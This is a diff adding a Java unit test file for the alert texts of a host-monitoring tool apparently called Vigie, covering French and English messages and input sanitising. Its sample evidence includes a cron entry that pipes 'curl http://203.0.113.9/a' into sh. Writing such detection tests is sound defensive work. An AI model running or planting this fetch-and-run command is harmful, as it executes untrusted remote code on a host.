@@ -1,0 +1,75 @@
+package bzh.vigie.collector.detect;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.Locale;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+final class AlertTextsTest {
+    private static final AlertTexts TEXTS = AlertTexts.shipped();
+    private static final Map<String, String> EVIDENCE = Map.of(
+            "change", "present",
+            "location", "linux.cron.system",
+            "name", "backup",
+            "source", "/etc/cron.d/backup",
+            "value", "curl http://203.0.113.9/a | sh",
+            "traits", "inline-script\nnetwork-tool");
+
+    @Test
+    void anAlertSpeaksFrenchWithItsEvidence() {
+        AlertText text = TEXTS.of("vigie-linux-network-one-liner", EVIDENCE, 1, Locale.FRANCE);
+        assertEquals("backup confie à un interpréteur une commande qui utilise le réseau", text.title());
+        assertTrue(text.explanation().contains("/etc/cron.d/backup"));
+        assertTrue(text.explanation().contains("déjà là quand Vigie a été installé"));
+        assertTrue(text.explanation().contains("curl http://203.0.113.9/a | sh"));
+        assertTrue(text.advice().contains("/etc/cron.d/backup"));
+        assertTrue(text.resolution().contains("retiré"));
+    }
+
+    @Test
+    void anyOtherLocaleGetsEnglishWhateverTheMachineSpeaks() {
+        Locale before = Locale.getDefault();
+        try {
+            Locale.setDefault(Locale.FRANCE);
+            AlertText text = TEXTS.of("vigie-linux-network-one-liner", EVIDENCE, 3, Locale.GERMANY);
+            assertEquals("backup gives a shell a command that uses the network", text.title());
+            assertTrue(text.explanation().contains("already there when Vigie was installed"));
+            assertTrue(text.explanation().contains("Seen 3 times"));
+        } finally {
+            Locale.setDefault(before);
+        }
+    }
+
+    @Test
+    void whatAHostSentCannotMoveTheCursor() {
+        AlertText text = TEXTS.of(
+                "vigie-item-added", Map.of("name", "a\u001b[2J\nb", "source", "/x\u202e"), 1, Locale.ENGLISH);
+        assertFalse(text.title().contains("\u001b"));
+        assertFalse(text.title().contains("\n"));
+        assertFalse(text.explanation().contains("\u202e"));
+    }
+
+    @Test
+    void aRuleThatIsGoneStillGivesAText() {
+        AlertText text = TEXTS.of("somebody-elses-rule", EVIDENCE, 1, Locale.FRENCH);
+        assertTrue(text.title().contains("somebody-elses-rule"));
+        assertFalse(text.advice().isBlank());
+    }
+
+    @Test
+    void everyCardGivesWholeTextsInBothLanguages() {
+        for (var card : ShippedRules.load().cards()) {
+            for (Locale locale : new Locale[] {Locale.FRENCH, Locale.ENGLISH}) {
+                AlertText text = TEXTS.of(card.id(), EVIDENCE, 1, locale);
+                assertFalse(text.title().isBlank(), card.id());
+                assertFalse(text.explanation().isBlank(), card.id());
+                assertFalse(text.advice().isBlank(), card.id());
+                assertFalse(text.resolution().isBlank(), card.id());
+                assertFalse(text.title().contains("{"), card.id());
+            }
+        }
+    }
+}
